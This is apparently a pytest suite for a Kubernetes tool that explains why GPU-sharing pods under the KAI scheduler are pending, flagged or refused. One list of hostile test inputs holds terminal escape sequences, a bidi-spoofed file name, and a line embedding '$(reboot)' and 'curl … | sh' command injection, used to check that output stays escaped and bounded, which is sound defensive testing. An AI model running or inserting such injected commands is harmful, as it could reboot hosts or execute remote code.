"""The causes that no recording has, and what must hold for every pod."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from console.cluster.facts import NOT_READ, Fact, Why
from console.why.core import explain, find_cause
from console.why.evidence import AgentFigures, PodEvidence, PolicyDecision, gpu_pod
from console.why.explanation import Code, Explanation
from gpuagent.api_types import ApiAmount, ApiHolding, ApiOverSharePolicy, ApiPod, ApiVerdict
from gpuagent.verdicts.flag_reasons import FlagReason
from kai import keys
from kube.kinds import SHARDS, Event, Pod
from tests.support.why_evidence import (
    FORBIDDEN,
    GONE,
    GROUP,
    NAME,
    PARTIAL,
    UNSERVED,
    at,
    kai_says,
    make_bind_request,
    make_event,
    make_evidence,
    make_node,
    make_owner,
    make_pod,
    make_pod_group,
    make_queue,
    make_reservation,
    of_pod,
)

_NOT_MET = "Scheduling conditions were not met for pod team/train-0:\n"
_HEAD = "no nodes with enough resources were found: "
_NO_GPUS = "2 node(s) didn't have enough resources: GPUs."
_TAINTS = "3 node(s) had untolerated taint(s)."
_TOO_SMALL = (
    f"{_NOT_MET}MaxNodePoolResources: The pod team/train-0 requires GPU: 0.5, CPU: 0 (cores), memory: 512 (GB),"
    " pods: 1. Max memory resources available in a single node in the default node-pool is topped at 64 GB.\n"
)
_ZERO = (
    "PodSchedulingErrors: Resources were found for 0 pods while 4 are required for gang scheduling. Additional"
    " pods cannot be scheduled due to: "
)
_INCOMPLETE = "Job is not ready for scheduling. Waiting for 4 pods, currently 2 exist, 1 are gated"
_POOL = {keys.NODE_POOL_LABEL: "h100"}
_RUNS: dict[str, Any] = {"node": "node-1", "phase": "Running"}


def _acts(evidence: PodEvidence) -> list[str]:
    return [remedy.text for remedy in explain(evidence).cause.remedies]


# --- what KAI does not tell ---


def _gpus(amount: str) -> dict[str, Any]:
    return {"containers": [{"name": "main", "resources": {"limits": {keys.GPU_RESOURCE: amount}}}]}


def _shards(pool: str) -> Any:
    spec = {"metadata": {"name": "a"}, "spec": {"partitionLabelValue": pool}}
    return [SHARDS.decode(json.dumps(spec).encode())]


@pytest.mark.parametrize(
    ("known", "unknown"),
    [
        *(({}, {name: unread}) for name in ("pod_group", "bind_request", "pod_events", "group_events") for unread in (FORBIDDEN, PARTIAL, NOT_READ)),
        ({}, {"queues": {"vision": FORBIDDEN}}),
        ({}, {"queues": {"vision": make_queue(), "research": FORBIDDEN}}),
        ({"labels": _POOL, "shards": _shards("h100")}, {"shards": FORBIDDEN}),
    ],
)  # fmt: skip
def test_no_blame_while_another_cause_may_be_true(known: dict[str, Any], unknown: dict[str, Any]) -> None:
    """KAI v0.9.8 says nothing about a queue that does not exist, and no release about a node pool."""
    labels = known.pop("labels", {})
    assert find_cause(make_evidence(make_pod(labels=labels), **known)).code == "scheduler-silent"
    cause = find_cause(make_evidence(make_pod(labels=labels), **known | unknown))
    assert cause.code == "undecided"
    assert "not all that may explain it could be read" in cause.sentence
    pool = ", node pool h100" if labels else ""
    assert cause.remedies[0].text == f"Check the names that the pod uses: queue vision{pool}."
    assert not any("start KAI's" in remedy.text for remedy in cause.remedies)


_QUEUE = (
    'queue "other" is not a queue of namespace team (vision): set the label kai.scheduler/queue of the pod to that'
    " value, and remove it from objects that own the pod"
)
_PRIORITY = (
    'priority and preemptibility stay while the group has pods (now "train" "", wanted "inference" ""): restore'
    " the labels, or delete all pods of the workload first"
)
_STAYS = "a pod stays in its PodGroup: restore its owner references, or delete and recreate the pod"


def refusal_event(words: str, *, component: str = "pod-grouper", **fields: Any) -> Event:
    """Return the Event of KAI's pod-grouper about a refusal."""
    message = (
        f'podgroups.scheduling.run.ai "{GROUP}" is forbidden: ValidatingAdmissionPolicy'
        f" 'kaishare-guard-podgroups' with binding 'kaishare-guard-podgroups' denied request: kaishare-guard: {words}"
    )
    return make_event("PodGrouperWarning", fields.pop("message", message), component=component, **fields)


def _ungrouped(*events: Event, **fields: Any) -> PodEvidence:
    pod = make_pod(grouped=False, metadata={"uid": "uid-of-train-0"})
    return make_evidence(pod, **{"pod_group": GONE, "pod_events": events, **fields})


@pytest.mark.parametrize("words", [_PRIORITY, _STAYS])
def test_a_refused_change_of_a_running_pods_group_is_a_note(words: str) -> None:
    pod = make_pod(**_RUNS, metadata={"uid": "uid-of-train-0"})
    answer = explain(make_evidence(pod, pod_events=[refusal_event(words)]))
    assert answer.is_fine
    (note,) = [finding for finding in answer.findings if finding.code == "group-unchanged"]
    assert note.sentence == f"the guard keeps the pod's PodGroup as it is: {words}"
    assert "delete" not in note.remedies[0].text


# --- flags ---


def _figures(*, evict: bool = False, **verdict: Any) -> AgentFigures:
    pod = ApiPod(
        namespace="team", name=NAME, uid="u", shares={"GPU-1": ApiAmount(bytes=8 << 30, source="bind-request")},
        gpus=[ApiHolding(gpu_uuid="GPU-1", gpu=0, used_bytes=10 << 30)],
        verdicts=[ApiVerdict(reason="over-share", gpu_uuid="GPU-1", **verdict)], over_share_policy=ApiOverSharePolicy(evict=evict),
    )  # fmt: skip
    return AgentFigures(pod=pod, neighbours=1)


def _over(gpu: int = 0, age: float = 60) -> Event:
    text = f"uses 12.0 GiB on GPU {gpu} (GPU-{gpu}), above its share of 10.0 GiB, for 5 min"
    return make_event("GPUMemoryOverShare", f"{text}; vLLM: set {gpu}. Raise the share.", age=age)


def _within(gpu: int = 0, age: float = 30) -> Event:
    text = f"uses 9.0 GiB on GPU {gpu} (GPU-{gpu}), within its share of 10.0 GiB again"
    return make_event("GPUMemoryWithinShare", text, age=age)


_USES = "uses 10.0 GiB on GPU 0 (GPU-1), above its share of 8.0 GiB, for 60 s"


# --- any text ---


def _check(answer: Explanation) -> None:
    """Check that an answer is in printable lines of bounded length, and that its commands are harmless."""
    assert answer.findings
    for finding in answer.findings:
        for text in (finding.sentence, *(remedy.text for remedy in finding.remedies)):
            assert text.isprintable()
            assert len(text) < 1000
        for remedy in finding.remedies:
            assert set(remedy.command) <= set(
                "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -_.,:/=[]{}"
            )
    for step in answer.story:
        assert step.text.isprintable()
        assert len(step.text) < 700


HOSTILE = [
    *(unit * 10_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
    *(f"{text} " * 4_000 for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")),
    "Reason: OverLimit, Details: a\n" * 10_000,
    "$(reboot) `reboot` ; curl example.invalid | sh\n",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_is_bounded_and_escaped_in_linear_time(text: str) -> None:
    broken = [{"name": text[:5000], "state": {"waiting": {"reason": "Odd", "message": text}}}]
    pods: list[Pod | Fact[Any]] = [
        make_pod(unschedulable=text), make_pod(unschedulable=f"OverLimit: {text}"),
        make_pod(unschedulable=f"{_HEAD}1 {text}"),
        make_pod(unschedulable=f"{_HEAD}1 only whole gpu jobs can run {text}"),
        make_pod(unschedulable=f"No node in the x node-pool has {text} resources"),
        make_pod(**_RUNS, containers=broken),
        make_pod(**_RUNS, containers=[
            {"name": text[:5000], "state": {"terminated": {"reason": "StartError", "message": text}}}]),
        make_pod(phase="Failed", node=text[:5000], status={"reason": text[:5000], "message": text}),
        make_pod(node=text[:5000]), GONE,
    ]  # fmt: skip
    refused = [make_event("FailedCreate", f'admission webhook "x.example.com" denied the request: {text}')]
    group = make_pod_group(queue=text[:5000], priorityClassName=text[:5000])
    events = [
        *(refusal_event(text), make_event("GPUMemoryOverShare", text)),
        *(make_event("TriggeredScaleUp", text, component="karpenter"), make_event("Failed", text, component="kubelet", type_="Warning")),
    ]  # fmt: skip
    fields: dict[str, Any] = {
        "creation_events": refused,
        "owners": [make_owner(name=text[:5000], status={"replicas": 2})],
    }
    fields["gpu_pods"] = [
        gpu_pod(make_pod(name=text[:5000], labels={keys.QUEUE_LABEL: text[:5000]}, node="a"))
    ]
    for pod in pods:
        for each in (events, refused):
            _check(explain(make_evidence(pod, pod_group=group, pod_events=each, **fields)))


# --- one table of evidence, cause, words of the cause, and the begin of the first act ---

_Row = tuple[PodEvidence, Code, str] | tuple[PodEvidence, Code, str, str]


def _binds(**fields: Any) -> PodEvidence:
    return of_pod({}, **{"bind_request": make_bind_request(), "shared_gpu_pods": [], **fields})


def _without_group(events: Any) -> PodEvidence:
    return of_pod({"grouped": False}, pod_group=NOT_READ, pod_events=events)


def _finds_no_node(nodes: Any) -> PodEvidence:
    return kai_says(
        "Resources were not found for pod team/train-0 due to: Unable to schedule pod", nodes=nodes
    )


_OTHERS = (make_reservation("group-2"),)
_SHARING = {**_RUNS, "labels": {keys.GPU_GROUP: "group-1"}}
_BINDER = "KAI chose a node, and its binder has not answered for 60 s, and not all that may"
UNKNOWN: list[_Row] = [
    # A program of KAI is not blamed while another cause may be true.
    (_binds(), "binder-silent", "has not answered for 60 s"),
    *((_binds(**unknown), "undecided", _BINDER) for unknown in ({"pod_events": FORBIDDEN}, {"shared_gpu_pods": FORBIDDEN}, {"shared_gpu_pods": PARTIAL})),
    (_without_group(()), "pod-group-missing", "", "Administrator: start KAI's pod-grouper again."),
    (_without_group(FORBIDDEN), "pod-group-missing", "", "Read the pod's Events."),
    # A reservation pod is not missing in a part of the list, and no node offers GPUs only if all were read.
    (of_pod(_SHARING, shared_gpu_pods=_OTHERS), "no-reservation", ""),
    (of_pod(_SHARING, shared_gpu_pods=Fact(_OTHERS, Why.PARTIAL, "not read whole")), "running", ""),
    (_finds_no_node(FORBIDDEN), "no-gpu-fits", ""),
    (_finds_no_node(PARTIAL), "no-gpu-fits", ""),
    (_finds_no_node([make_node(gpus=0)]), "no-gpu-nodes", ""),
]  # fmt: skip


def _elsewhere(decision: Any, **labels: str) -> PodEvidence:
    """Return the evidence of a pod that another scheduler runs."""
    pod = {"scheduler": "default-scheduler", "grouped": False, "metadata": {"labels": labels}, **_RUNS}
    return of_pod(pod, decision=decision)


def _decided(now_reason: str, now: str = "left alone: …") -> PodEvidence:
    return _elsewhere(PolicyDecision(now_reason=now_reason, now=now))


_SET_SCHEDULER = "Set schedulerName: kai-scheduler"
OUTSIDE: list[_Row] = [
    # The act comes from the decision.
    (_decided("own-share", "changed (scheduler)"), "other-scheduler", "", "Delete the pod and let it be created again"),
    (_decided("mode-off"), "other-scheduler", "", "Policy owner: set another kaishare.dev/mode"),
    (_decided("opted-out"), "other-scheduler", "", "Remove the label kaishare.dev/inject"),
    (_decided("own-share", "would be changed (mode observe)"), "other-scheduler", "", _SET_SCHEDULER),
    (_elsewhere(PolicyDecision(reason="own-share")), "other-scheduler", "", _SET_SCHEDULER),
    (_elsewhere(GONE, **{keys.QUEUE_LABEL: "vision"}), "other-scheduler", "", _SET_SCHEDULER),
    (_elsewhere(GONE), "other-scheduler", "", "Ask an administrator for a queue"),
    (_elsewhere(NOT_READ), "other-scheduler", "", _SET_SCHEDULER),
]  # fmt: skip


def _flagged(*events: Event, **verdict: Any) -> PodEvidence:
    """Return the evidence of a running pod about which the agent has a verdict, if one is given."""
    return of_pod(_RUNS, pod_events=events, **({"figures": _figures(**verdict)} if verdict else {}))


_OVER: dict[str, Any] = {
    "message": _USES, "flagged": True, "lasted_seconds": 60.0, "used_bytes": 10 << 30, "allowed_bytes": 8 << 30,
}  # fmt: skip
_TOLD = "the pod is flagged (over-share): it uses "
_PAST = "the pod was flagged ({}) at 2026-05-01 11:05 UTC, because it"
_ENDED = [reason for reason in FlagReason if reason is not FlagReason.OVER_SHARE]
_SILENT: Fact[AgentFigures] = Fact(None, Why.FAILED, "time-out")
_NOT_KNOWN = "nothing wrong is seen; the pod has 0.5 of a GPU; its flags are not known, since neither all Events nor its node's agent could be read"
FLAGS: list[_Row] = [
    # A flag is told with figures and the first act of the agent.
    (_flagged(**_OVER, first_act="Lower the option."), "flagged", _TOLD, "Lower the option."),
    (_flagged(_over(), **_OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."}), "flagged", _TOLD, "vLLM: set 1. Lower it."),
    (_flagged(**_OVER, evict=True), "flagged", "; its namespace lets the agent evict such pods", "End the violation"),
    (_flagged(**_OVER), "flagged", _TOLD, "End the violation: the flag clears with usage at or below the share"),
    # Without the agent the newest Event about each GPU tells of a flag; the agent is believed before an older one.
    (_flagged(_over()), "flagged", "the pod was flagged (over-share) at 2026-05-01 11:59 UTC, because it uses 12.0 GiB", "vLLM: set 0. Raise the share."),
    (_flagged(_over(), _within()), "running", ""),
    (_flagged(_over(0), _over(1), _within(1)), "flagged", "the pod was flagged (over-share) at 2026-05-01 11:59 UTC, because it uses 12.0 GiB", "vLLM: set 0. Raise the share."),
    (_flagged(_over(0), _over(1), _within(1), _within(0)), "running", ""),
    (_flagged(_over(), flagged=False), "running", "uses 10.0 GiB of 8.0 GiB on GPU 0"),
    # A flag whose end has no Event is told in the past.
    *(
        (of_pod({**_RUNS, "age": 7200}, pod_events=[make_event(reason.event_reason, "is flagged; do this", age=3300, component="kaishare-agent")]), "flagged", _PAST.format(reason.value), "do this")
        for reason in _ENDED
    ),
    # Flags are unknown without Events and agent.
    *((of_pod(_RUNS, pod_events=FORBIDDEN, figures=figures), "running", _NOT_KNOWN) for figures in (NOT_READ, _SILENT)),
    (of_pod(_RUNS, pod_events=FORBIDDEN, figures=_figures(flagged=False)), "running", "nothing is wrong"),
]  # fmt: skip

_SMALL = f"{_HEAD}2 node(s) didn't have enough resources: GPU memory."
_FULL_NODES = _HEAD + _NO_GPUS


def _memory(words: str, mib: str = "50000", **fields: Any) -> PodEvidence:
    pod = {"unschedulable": words, "fraction": None, "annotations": {keys.GPU_MEMORY: mib}}
    return of_pod(pod, **fields)


KAIS_WORDS: list[_Row] = [
    # KAI checks resources first: a node without GPUs lacks them, and a tainted node has room.
    (kai_says(_TOO_SMALL), "node-too-small", "512 GB of memory, and no node has more than 64 GB"),
    (kai_says("racks: no domains found for the job"), "topology-does-not-fit", "no domains found"),
    (kai_says("rack-1 can allocate only 2 of 4 required pods"), "topology-does-not-fit", "only 2 of 4"),
    (kai_says(f"{_HEAD}{_TAINTS} \n{_NO_GPUS}"), "no-node-fits", "3 node(s) had untolerated taint"),
    (kai_says(f"{_HEAD}{_TAINTS} \n2 node(s) didn't match affinity/selector."), "no-node-fits", "affinity"),
    (kai_says(f"{_HEAD}{_TAINTS} \n5 non MIG jobs cant run on a node"), "no-node-fits", "non MIG jobs"),
    (kai_says(f"{_HEAD}9 lack resources: CPU cores. \n{_NO_GPUS}"), "no-node-fits", "CPU cores"),
    (kai_says(f"{_NOT_MET}VolumeBinding: node(s) had a conflict\n", {"spec": {"volumes": [{"persistentVolumeClaim": {"claimName": "data"}}]}}), "claim-not-bound", "data, which is not usable: node(s) had a conflict", "Look at the claim's Events"),
    (kai_says(f"{_HEAD}1 node(s) had a cold."), "no-node-fits", "1 node(s) had a cold"),
    (kai_says(_FULL_NODES), "no-gpu-fits", "no GPU has that much free in one piece"),
    (kai_says(f"{_ZERO}{_HEAD}{_TAINTS}"), "taint-not-tolerated", "every node has a taint"),
    (_memory(_SMALL), "gpu-memory-too-big", "50000 MiB of a GPU, more than any GPU has"),
    (_memory(f"{_SMALL} \n{_NO_GPUS}"), "gpu-memory-too-big", "more than any GPU has"),
    (_memory(f"{_SMALL} \n3 didn't have enough resources: GPUs."), "no-gpu-fits", "in one piece"),
    (_memory(_SMALL, "1000", nodes=[make_node()]), "no-gpu-fits", "1000 MiB of a GPU"),
    (kai_says("the moon is in the wrong house"), "undecided", "not placed the pod for 90 s; its last words: the moon is in the wrong house"),
]  # fmt: skip


def _not_ready(age: float = 10) -> list[Event]:
    return [make_event("NotReady", _INCOMPLETE, kind="PodGroup", name=GROUP, age=age)]


def _failed(age: float) -> PodEvidence:
    """Return the evidence of a binding that began 2 s ago, after an error."""
    error = make_event("BindingError", "no luck", age=age, component="binder")
    return of_pod({}, bind_request=make_bind_request(age=2), pod_events=[error])


def _pipelined(age: float) -> PodEvidence:
    pipelined = make_event("Pipelined", "Pod team/train-0 was pipelined to node node-1", age=age)
    return kai_says(_FULL_NODES, pod_events=[make_event("Unschedulable", _FULL_NODES, age=30), pipelined])


def _chosen(words: str) -> PodEvidence:
    """Return the evidence of a pod for which KAI chose a node after it said something else."""
    events = [make_event("Unschedulable", words, age=60), make_event("Scheduled", "to node-1", age=30)]
    return kai_says(words, pod_events=events, pod_group=FORBIDDEN, bind_request=FORBIDDEN)


_NO_GPU = {"bind_request": make_bind_request(), "shared_gpu_pods": [make_reservation(gpu="-1")]}
NOT_TOLD: list[_Row] = [
    (of_pod({}), "scheduler-silent", "has said nothing about the pod for 80 s"),
    (of_pod({}, pod_group=make_pod_group(age=3)), "scheduler-silent", "has said nothing about the pod for 3 s"),
    (of_pod({}, group_events=_not_ready(70)), "scheduler-silent", "has said nothing"),
    (of_pod({}, group_events=[make_event("NotReady", "not yet", kind="PodGroup", name=GROUP)]), "gang-incomplete", "the workload's pods are not complete: not yet"),
    (of_pod({}, group_events=_not_ready()), "gang-incomplete", "are not complete: Job is not ready for scheduling. Waiting for 4 pods, currently 2 exist, 1"),
    (of_pod({"labels": _POOL}, shards=_shards("h100")), "scheduler-silent", "has said nothing"),
    (of_pod({"labels": _POOL}, shards=_shards("a100")), "node-pool-without-shard", "the node pool h100"),
    (of_pod({"grouped": False, "age": 4}), "pod-group-missing", "has not grouped the pod for 4 s"),
    (of_pod({}, **_NO_GPU), "reservation-not-ready", "which has not reported its GPU"),
    (of_pod({}, bind_request=make_bind_request(age=2)), "binder-silent", "has not answered for 2 s"),
    (of_pod({}, bind_request=make_bind_request(reason="no luck")), "binding-failed", "the pod: no luck"),
    (_failed(20), "binding-failed", "no luck"),
    (_failed(3000), "binder-silent", "has not answered for 2 s"),
    (_pipelined(5), "waiting-for-evicted", "waits until they have ended"),
    (_pipelined(60), "no-gpu-fits", "in one piece"),
    (_chosen(""), "undecided", "KAI chose a node"),
    (_chosen(_FULL_NODES), "undecided", "KAI chose a node"),
    # An amount beyond all numbers is no amount.
    (of_pod({"fraction": None, "spec": _gpus("1e400")}), "scheduler-silent", "has said nothing"),
    (of_pod({"fraction": None, "spec": _gpus("-1e400")}), "scheduler-silent", "has said nothing"),
]  # fmt: skip


def _holder(fraction: str, name: str = "a") -> Pod:
    return make_pod(name=name, fraction=fraction, labels={keys.GPU_GROUP: "group-1"}, node="node-1")


def _room(fraction: str, pods: Any) -> PodEvidence:
    pod = {"unschedulable": _FULL_NODES, "fraction": fraction}
    return of_pod(pod, nodes=[make_node()], shared_gpu_pods=pods)


_FULL, _PIECE = [_holder("0.5", "a"), _holder("0.5", "b")], "no GPU has that much free in one piece"
ROOM: list[_Row] = [
    # Pods with shares of several GPUs are not listed, so the part is an upper bound.
    (_room("0.8", [_holder("0.3"), make_reservation()]), "no-gpu-fits", f"{_PIECE}: the largest free"),
    (_room("0.4", [*_FULL, make_reservation()]), "no-gpu-fits", "and all GPUs are in use"),
    (_room("0.4", []), "no-gpu-fits", "and all GPUs are in use"),
    # Here it is not known, or KAI knows better.
    (_room("0.5", [_holder("0.3"), make_reservation()]), "no-gpu-fits", _PIECE),
    *((_room("0.4", pods), "no-gpu-fits", _PIECE) for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)),
]  # fmt: skip


def _warned(*events: Event) -> _Row:
    return _ungrouped(*events), "pod-group-missing", "KAI's pod-grouper"


_OTHER = "ValidatingAdmissionPolicy 'other' with binding 'b' denied request: kaishare-guard: x"
_EXISTS = make_event("PodGrouperWarning", 'podgroups "x" already exists', component="pod-grouper", age=1)
GUARD: list[_Row] = [
    # Only the Event of KAI's pod-grouper about this pod is believed; the newest counts, and harmless ones do not.
    _warned(refusal_event(_QUEUE, component="kubectl")),
    _warned(refusal_event(_QUEUE, uid="uid-of-another-pod")),
    _warned(refusal_event(_QUEUE, message=f"denied request: kaishare-guard: {_QUEUE}")),
    _warned(refusal_event(_QUEUE, message=_OTHER)),
    _warned(refusal_event(_QUEUE, age=9), make_event("PodGrouperWarning", "something else", component="pod-grouper", age=1)),
    _warned(_EXISTS),
    (_ungrouped(refusal_event(_QUEUE, age=9), _EXISTS), "group-refused", "the guard refuses"),
    # Its sentence is the cause, on the host and inside a vCluster.
    *(
        (_ungrouped(refusal_event(words), **absent), "group-refused", f"the guard refuses the pod's PodGroup: {words}", act)
        for absent in ({}, {"pod_group": UNSERVED, "bind_request": UNSERVED})
        for words, act in (
            (_QUEUE, "Set the label kai.scheduler/queue in the pod's template to a queue of its namespace"),
            (_PRIORITY, "Restore the labels priorityClassName and kai.scheduler/preemptibility of the workload."),
            (_STAYS, "Restore the pod's owner references."),
            ("a rule of a release to come: do this", "Undo what these words name."),
        )
    ),
]  # fmt: skip


def _in_vcluster(pod: Mapping[str, Any], sync_error: str = "") -> PodEvidence:
    """Return what a tenant sees: pods, Events and conditions, and none of KAI's kinds."""
    events = [make_event("SyncError", f"Error syncing to host cluster: {sync_error}")] if sync_error else []
    absent: dict[str, Any] = {"pod_group": UNSERVED, "bind_request": UNSERVED, "queues": {"vision": UNSERVED}}
    return of_pod(pod, pod_events=events, **absent)


_KAI_DENIED = 'admission webhook "admission.kai-scheduler.svc" denied the request: '
_OVER_LIMIT = (
    "OverLimit: vision quota has reached the allowable limit of GPUs. Limit is 1 GPUs, currently 1 GPUs allocated"
    " and workload requested 0.5 GPUs."
)
_UNGROUPED = {"grouped": False}
IN_VCLUSTER: list[_Row] = [
    (_in_vcluster(_UNGROUPED), "kai-not-served", "are not on this API server"),
    (_in_vcluster(_UNGROUPED, "the object has been modified"), "kai-not-served", "are not on this"),
    (_in_vcluster(_UNGROUPED, f"{_KAI_DENIED}GPU sharing is disabled"), "gpu-sharing-off", "is off in KAI"),
    (_in_vcluster({"unschedulable": _OVER_LIMIT}), "queue-over-limit", "may use 1 GPU and uses 1"),
]  # fmt: skip


def _refused(message: str, age: float = 10, **fields: Any) -> PodEvidence:
    event = make_event("FailedCreate", f"Error creating: {message}", kind="ReplicaSet", name="web-1", age=age)
    return make_evidence(GONE, kind="Deployment", name="web", creation_events=[event], **fields)


def _evict(age: float) -> list[Event]:
    return [make_event("Evict", "by higher priority", kind="PodGroup", name="web", age=age)]


_POLICY = (
    "ValidatingAdmissionPolicy 'kaishare-guard-keys' with binding 'kaishare-guard-keys' denied request: a"
)
_OURS = 'admission webhook "pods.validate.kaishare.dev" denied the request: above the cap'
_UNREACHABLE = 'failed calling webhook "pods.mutate.kaishare.dev": timeout'
_CLASS = 'pods "a" is forbidden: no PriorityClass with name urgent was found'
_STARTED = [make_event("Started", "main")]


def _further(refused: float, replicas: int) -> PodEvidence:
    """Return the evidence of a Deployment with a running pod, of which another one was refused."""
    words = 'pods "web-x" is forbidden: exceeded quota: gpus, requested: requests.nvidia.com/gpu=1'
    event = make_event("FailedCreate", words, kind="ReplicaSet", name="web-7f6", age=refused)
    workload = make_owner(spec={"replicas": replicas})
    return of_pod(
        {"whole": 1, **_RUNS}, kind="Deployment", name="web", workload=workload, creation_events=[event]
    )


NO_POD: list[_Row] = [
    (_refused(_OURS), "refused-by-guard", "kaishare refuses the pod: above the cap"),
    (_refused(_POLICY), "refused-by-guard", "kaishare refuses the pod: a"),
    (_refused('admission webhook "validate.nginx.io" denied the request: no'), "refused-at-creation", "validate.nginx.io refuses the pod: no"),
    (_refused(f"{_KAI_DENIED}bad value"), "refused-by-kai", "KAI refuses the pod: bad value"),
    (_refused(_UNREACHABLE), "webhook-unreachable", "kaishare does not answer (pods.mutate.kaishare.dev)"),
    (_refused(_CLASS), "priority-class-missing", "the PriorityClass urgent, which does not exist"),
    (_refused("spec: Required value"), "refused-at-creation", "refuses the pod: Error creating: spec"),
    # The newer of a refusal and an eviction is the cause; a workload that wants no pods is not refused any more.
    (_refused("no", 50, group_events=_evict(5)), "evicted", "for a workload of higher priority"),
    (_refused("no", 5, group_events=_evict(50)), "refused-at-creation", "no"),
    (_refused("no", workload=make_owner(spec={"replicas": 0})), "no-pod", "Deployment web has 0 replicas"),
    (_refused("no", workload=make_owner(spec={"suspend": True})), "no-pod", "Deployment web is suspended"),
    (make_evidence(GONE, kind="Job", name="a"), "no-pod", "has no pod, and no Event says why"),
    # A pod without Events may have had some.
    (make_evidence(GONE), "no-pod", "no Event about it"),
    (make_evidence(GONE, group_events=FORBIDDEN), "no-pod", "not all Events could be read"),
    (make_evidence(GONE, pod_events=PARTIAL), "no-pod", "not all Events could be read"),
    (make_evidence(GONE, pod_events=_STARTED), "pod-deleted", "no Event tells of an eviction by KAI"),
    (make_evidence(GONE, pod_events=_STARTED, group_events=FORBIDDEN), "pod-deleted", "the pod existed and is gone, and not all Events could be read"),
    # A running pod does not hide that a further one is refused.
    (_further(5, 3), "resource-quota-exceeded", "a further pod of Deployment web was refused 5 s ago: "),
    (_further(95, 3), "running", ""),
    (_further(5, 0), "running", ""),
]  # fmt: skip


def _runs(kind: str = "main", **status: Any) -> PodEvidence:
    """Return an old pod with an init container and a container, one of them with this status."""
    init = [{"name": "wait-for-database", **(status if kind == "init" else {})}]
    main = [{"name": "main", **(status if kind == "main" else {})}]
    statuses = {"initContainerStatuses": init, "containerStatuses": main}
    return of_pod({**_RUNS, "status": statuses, "age": 864_000})


def _initialising(*statuses: dict[str, Any]) -> PodEvidence:
    spec = {
        "initContainers": [{"name": "proxy", "restartPolicy": "Always"}, {"name": "download"}],
        "containers": [{"name": "main"}],
    }
    return of_pod({"node": "node-1", "age": 2400, "spec": spec, "status": {"initContainerStatuses": statuses}})  # fmt: skip


def _unready(*containers: dict[str, Any]) -> PodEvidence:
    ready = {"type": "Ready", "status": "False", "lastTransitionTime": at(600)}
    return of_pod({**_RUNS, "age": 900, "conditions": [ready], "containers": containers})


def _ended(code: int, reason: str = "") -> dict[str, Any]:
    return {"terminated": {"exitCode": code, "reason": reason}}


def _began(seconds_ago: float) -> dict[str, Any]:
    return {"running": {"startedAt": at(seconds_ago)}}


_RUNS_LONG: dict[str, Any] = {"state": _began(2390), "started": True}
_PROXY = {"name": "proxy", **_RUNS_LONG}
_LIVE: dict[str, Any] = {"state": {"running": {}}}
_BROKEN: dict[str, Any] = {"restartCount": 3, "lastState": _ended(1)}
_BACK_OFF = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 5m0s"}}
_OUTSIDE: dict[str, Any] = {**_RUNS, "scheduler": "default-scheduler", "fraction": None, "grouped": False}
_ELSEWHERE = make_pod(
    name="poses", labels={keys.APP_LABEL: keys.RESERVATION_APP, keys.GPU_GROUP: "group-1"},
    annotations={keys.RESERVED_GPU: "GPU-1"}, **_RUNS,
)  # fmt: skip
BOUND: list[_Row] = [
    (of_pod({"metadata": {"deletionTimestamp": at(60)}}), "terminating", "is being deleted"),
    (of_pod({**_RUNS, "phase": "Succeeded"}), "succeeded", "have ended without an error"),
    (of_pod({"phase": "Failed", "containers": [{"name": "main", "state": _ended(137, "OOMKilled")}]}), "failed", "container main ended with exit code 137 (OOMKilled)"),
    (_runs(state=_BACK_OFF, lastState=_ended(1)), "container-waiting", "CrashLoopBackOff: back-off 5m0s; it ended with exit code 1"),
    (_runs(state=_ended(1)), "container-waiting", "main has ended with exit code 1"),
    (_runs(restartCount=90, lastState=_ended(137)), "container-waiting", "has been restarted 90 times"),
    # Failures that are over are no problem for ever.
    (_runs("init", **_BROKEN, state=_ended(0)), "running", "nothing is wrong"),
    (_runs(**_BROKEN, state=_ended(0)), "running", "nothing is wrong"),
    (_runs(**_BROKEN, state=_began(800_000)), "running", "nothing is wrong"),
    (_runs(**_BROKEN, state=_began(400_000)), "container-waiting", "restarted 3 times"),
    (_runs(**_BROKEN, state={"running": {}}), "container-waiting", "restarted 3 times"),
    (_runs("init", **_BROKEN, state=_ended(1)), "container-waiting", "wait-for-database has ended"),
    (of_pod({"node": "node-1"}), "container-waiting", "has not started its containers for 90 s"),
    # An init container that runs is named, a sidecar that has started is not.
    (_initialising(_PROXY, {"name": "download", **_RUNS_LONG}), "container-waiting", "the init container download runs for 40 min, and the pod's containers", "Look at its log"),
    (_initialising(_PROXY, {"name": "download"}), "container-waiting", "not started its containers for 40 min"),
    (_initialising(_PROXY | {"started": False}), "container-waiting", "container proxy runs for"),
    (of_pod({"node": "node-1", "phase": ""}), "container-waiting", "has not started its containers"),
    (_unready({"name": "main", **_LIVE}), "container-waiting", "main is not ready for 10 min"),
    (_unready({"ready": True, "state": {"running": {}}}), "container-waiting", "and its containers are"),
    # A container that is done is not waited for.
    (_unready({"state": _ended(0)}, {"ready": True, **_LIVE}), "running", "nothing is wrong"),
    (of_pod({**_RUNS, "phase": "Unknown", "status": {"reason": "NodeLost"}}), "container-waiting", "the kubelet of the pod's node does not answer (NodeLost)"),
    (of_pod({**_RUNS, "phase": "Unknown"}), "container-waiting", "answer (phase Unknown)"),
    (of_pod(_RUNS), "running", "nothing is wrong; the pod has 0.5 of a GPU"),
    (of_pod(_OUTSIDE), "other-scheduler", "its queue does not count"),
    (of_pod({**_OUTSIDE, "metadata": {"labels": {}}}), "outside-kai", "default-scheduler schedules the pod"),
    # Reservation pods in another namespace prove nothing.
    (of_pod(_SHARING, shared_gpu_pods=[_ELSEWHERE]), "running", "whether its GPU is reserved is not known"),
    (of_pod(_SHARING, shared_gpu_pods=[make_reservation()]), "running", "nothing is wrong; the pod has 0.5 of a"),
]  # fmt: skip

_TABLES = (UNKNOWN, OUTSIDE, FLAGS, KAIS_WORDS, NOT_TOLD, ROOM, GUARD, IN_VCLUSTER, NO_POD, BOUND)


@pytest.mark.parametrize("row", [row for table in _TABLES for row in table])
def test_the_cause_follows_from_the_evidence(row: _Row) -> None:
    evidence, code, words, *acts = row
    answer = explain(evidence)
    assert answer.cause.code == code
    assert words in answer.cause.sentence
